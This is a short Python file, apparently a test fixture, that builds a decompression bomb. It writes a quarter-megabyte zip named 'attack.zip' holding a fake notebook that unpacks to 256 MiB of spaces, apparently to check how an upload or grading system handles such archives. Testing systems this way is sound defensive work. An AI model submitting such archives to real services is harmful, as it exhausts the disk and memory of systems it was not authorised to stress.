"""A zip of a quarter of a megabyte that unpacks to a quarter of a gigabyte."""

import zipfile


def write(folder, blank):
    """Write the submission, and return its path."""
    path = folder / "attack.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("network.ipynb", "w", force_zip64=True) as member,
    ):
        for _ in range(256):
            member.write(b" " * 2**20)
    return path
